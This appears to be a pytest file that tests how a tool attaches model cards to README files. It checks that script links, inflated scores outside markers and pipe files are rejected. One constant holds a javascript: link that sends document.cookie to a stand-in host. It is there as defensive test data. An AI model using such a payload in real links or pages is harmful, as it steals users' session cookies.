"""Model cards: what is attached to a README, and what a README says is attached."""

import os
import re
from pathlib import Path

from _pytest.monkeypatch import MonkeyPatch

from gridc.diagnostics.errors import GridcError
from gridc.reports.exchange import model_card
from gridc.reports.files import documents
from gridc.schema.card import CardDeck
from tests.adversary.attack import attack, instead
from tests.reports.builders import findings_of, reversing, spec_of

RUNS = "javascript:fetch('//e.example/'+document.cookie)"
ANY_LINK = instead((model_card, "LINK", re.compile(r"\S+")))


def deck() -> CardDeck:
    return documents(findings_of(spec_of({"ant": None, "bee": None}), reversing)).deck


@attack(
    "the author",
    "`card attach --link javascript:...` puts a script behind the certificate's link",
    "GC000",
    ANY_LINK,
)
def script_as_link(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text("# Ant\n")
    try:
        model_card.attach(readme, deck(), "ant", RUNS)
    except GridcError as error:
        return {each.code for each in error.diagnostics}
    return set()


@attack("the author", "a README whose attached card links to a script passes `card check`", "GC707", ANY_LINK)
def script_in_readme(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text(model_card.attached("# Ant\n", deck(), "ant", RUNS))
    return {each.code for each in model_card.check(readme, deck())}


@attack(
    "the author",
    "a better score in the `model-index`, outside of the markers, names the study as its source",
    "GC707",
    instead((model_card, "_claimed_elsewhere", lambda *_: [])),
)
def score_outside_of_the_markers(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme, cards = folder / "README.md", deck()
    front = re.sub(r"# gridc:card .*\n", "", model_card.attached("# Ant\n", cards, "ant"))
    readme.write_text(re.sub(r"value: \S+", "value: 0.999", front[: front.index("# Ant")]) + "# Ant\n")
    model_card.attach(readme, cards, "ant")
    assert "0.999" in readme.read_text()
    return {each.code for each in model_card.check(readme, cards)}


@attack(
    "the author",
    "the model card is a pipe, which is waited for",
    "GC610",
    instead((model_card, "read_regular", lambda *_: b"")),
)
def readme_is_a_pipe(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    os.mkfifo(readme)
    try:
        model_card.attach(readme, deck(), "ant")
    except GridcError as error:
        return {each.code for each in error.diagnostics}
    return set()
